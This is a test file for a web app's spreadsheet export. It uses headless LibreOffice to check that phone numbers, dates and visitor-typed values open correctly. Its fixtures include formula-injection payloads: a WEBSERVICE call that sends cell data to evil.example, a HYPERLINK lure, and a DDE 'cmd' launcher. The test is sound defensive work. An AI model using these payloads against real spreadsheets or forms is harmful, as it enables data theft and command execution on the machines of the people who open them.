import { execFileSync, spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { meetingFields } from "#app/booking/meeting-fields.ts";
import { inquiryFields } from "#app/contact/inquiry-fields.ts";
import { submissionSheet, toCsv } from "#app/forms/export.server.ts";
import type { SubmissionRecord } from "#app/forms/submissions.server.ts";

// The team's sheets opened as a person opens them: LibreOffice Calc reads the CSV (UTF-8, as its
// import dialog offers for a file with a byte-order mark) and saves it as a flat OpenDocument
// file, whose cells say what Calc made of each value: text, a number, a date, or a formula and
// its result. Needs Debian's libreoffice-calc-nogui (about 280 MB), so it runs on a developer's
// machine (`npm run test:libreoffice`), not in CI; tests/unit/sheet-cells.test.ts checks the
// same rule there (decision 047).

let folder: string;
beforeAll(() => {
  const found = spawnSync("soffice", ["--version"], { encoding: "utf8" });
  if (found.status !== 0)
    throw new Error("LibreOffice is not installed: apt-get install -y libreoffice-calc-nogui, then run this again.");
  folder = mkdtempSync(path.join(tmpdir(), "sheet-"));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

type Cell = { type: string; value: string; formula: string | null };

/** The first sheet's rows as Calc read them. */
function openInCalc(csv: string): Cell[][] {
  const file = path.join(folder, "sheet.csv");
  writeFileSync(file, csv);
  // Separator comma, text delimiter ", UTF-8 (76), from line 1: the import dialog's choices.
  execFileSync(
    "soffice",
    [
      `-env:UserInstallation=file://${folder}/profile`,
      "--headless",
      "--norestore",
      "--infilter=CSV:44,34,76,1",
      "--convert-to",
      "fods",
      "--outdir",
      folder,
      file,
    ],
    { stdio: "ignore", timeout: 120_000 },
  );
  const fods = readFileSync(path.join(folder, "sheet.fods"), "utf8");
  const table = fods.slice(fods.indexOf("<table:table "));
  const unescapeXml = (text: string) =>
    text
      .replace(/&quot;/g, '"')
      .replace(/&apos;/g, "'")
      .replace(/&lt;/g, "<")
      .replace(/&gt;/g, ">")
      .replace(/&amp;/g, "&");
  return [...table.matchAll(/<table:table-row[^>]*>([\s\S]*?)<\/table:table-row>/g)].map(([, row]) =>
    [...row!.matchAll(/<table:table-cell([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g)].flatMap(
      ([, attributes, content]) => {
        const cell: Cell = {
          type: /office:value-type="(\w+)"/.exec(attributes!)?.[1] ?? "empty",
          value: unescapeXml((content ?? "").replace(/<text:s\/>/g, " ").replace(/<[^>]+>/g, "")).trim(),
          formula: /table:formula="([^"]*)"/.exec(attributes!)?.[1] ?? null,
        };
        // Empty cells side by side are written once with their count (the row's end: a thousand).
        const repeated = Number(/table:number-columns-repeated="(\d+)"/.exec(attributes!)?.[1] ?? 1);
        return Array.from({ length: Math.min(repeated, 50) }, () => cell);
      },
    ),
  );
}

const record = (fields: Record<string, string | null>, kind: SubmissionRecord["kind"]): SubmissionRecord => ({
  id: "01a225c7-0d53-7abc-8def-0123456789ab",
  kind,
  createdAt: "2026-11-20T09:00:00.123Z",
  status: "received",
  spamReason: null,
  job: null,
  jobTitle: null,
  progress: "new",
  note: '=HYPERLINK("http://evil.example","click")',
  fields,
  attachments: [],
  mail: [],
});
const labels = { state: () => "New", posting: null, mail: () => "" };

test("a phone number opens as typed, text, never a number or a formula's error", () => {
  const phones = ["+91 98765 43210", "+4915112345678", "+1 (555) 010-9999", "0987654321"];
  const rows = openInCalc(toCsv([["Phone"], ...phones.map((phone) => [phone])]));
  expect(rows.slice(1).map(([cell]) => ({ type: cell!.type, value: cell!.value }))).toEqual(
    phones.map((phone) => ({ type: "string", value: phone })),
  );
});

test("what a visitor typed to run as a formula stays text, in the team's sheet", () => {
  const sheet = submissionSheet(
    inquiryFields,
    [
      record(
        {
          name: "=1+2",
          email: "@SUM(1,2)",
          phone: "+91 98765 43210",
          company: "-2+3",
          project: '=WEBSERVICE("http://evil.example/?"&A1)',
          budget: null,
          source: "+cmd|' /C calc'!A0",
        },
        "contact",
      ),
    ],
    labels,
  );
  const [header, row] = openInCalc(toCsv(sheet));
  const cell = (label: string) => row![header!.findIndex((column) => column.value === label)]!;
  // Only the phone number is a formula, whose result is its text; nothing else is one.
  expect(row!.filter((each) => each.formula !== null).map((each) => each.value)).toEqual(["+91 98765 43210"]);
  expect(cell("Phone")).toMatchObject({ type: "string", value: "+91 98765 43210" });
  expect(cell("Name")).toMatchObject({ type: "string", value: "'=1+2" });
  expect(cell("Note")).toMatchObject({ type: "string", value: `'=HYPERLINK("http://evil.example","click")` });
});

test("every time column reads as the same kind of date and time", () => {
  const meeting = record(
    {
      when: "Wednesday, December 2, 2026 at 12:30 PM Pacific Standard Time",
      visitorWhen: "Thursday, December 3, 2026 at 2:00 AM India Standard Time",
      start: "2026-12-02T20:30:00.000Z",
      name: "Asha",
      email: "asha@example.com",
      company: null,
      topic: null,
    },
    "meeting",
  );
  const other = record({ ...meeting.fields, start: "2026-12-01T19:00:00Z" }, "meeting");
  const [header, ...rows] = openInCalc(toCsv(submissionSheet(meetingFields, [meeting, other], labels)));
  const column = (label: string) => rows.map((row) => row[header!.findIndex((cell) => cell.value === label)]!);
  expect(column("Received (UTC)").map((cell) => [cell.type, cell.value])).toEqual([
    ["date", "2026-11-20 09:00:00"],
    ["date", "2026-11-20 09:00:00"],
  ]);
  expect(column("Starts (UTC)").map((cell) => [cell.type, cell.value])).toEqual([
    ["date", "2026-12-02 20:30:00"],
    ["date", "2026-12-01 19:00:00"],
  ]);
});
